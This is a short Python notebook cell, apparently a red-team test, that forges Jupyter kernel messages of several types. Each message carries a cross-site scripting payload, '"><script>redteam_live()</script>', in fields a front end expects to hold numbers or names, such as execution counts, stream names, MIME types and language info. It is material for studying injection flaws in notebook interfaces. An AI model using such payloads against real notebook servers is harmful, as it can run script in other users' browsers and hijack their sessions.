"""Forges messages with scripts where a page expects a number or a name: execution counts, stream names, languages, comms."""

# %% below gru_step
kernel, script = get_ipython().kernel, '"><script>redteam_live()</script>'
parent = get_ipython().parent_header
for kind, content in {
    "stream": {"name": f"stdout{script}", "text": script},
    "execute_input": {"execution_count": script, "code": script},
    "execute_result": {"execution_count": script, "data": {"text/plain": script}, "metadata": {}},
    "error": {"ename": script, "evalue": script, "traceback": [script]},
    "display_data": {"data": {f"image/png{script}": script, "image/png": script}, "metadata": {script: script}},
    "update_display_data": {"data": {"text/html": script}, "metadata": {}, "transient": {"display_id": script}},
    "comm_open": {"comm_id": script, "target_name": "jupyter.widget", "data": {"state": {"a": script}}},
    "kernel_info_reply": {"status": "ok", "language_info": {"name": script, "pygments_lexer": script}},
    "clear_output": {"wait": True},
}.items():
    kernel.session.send(kernel.iopub_socket, kind, content, parent)
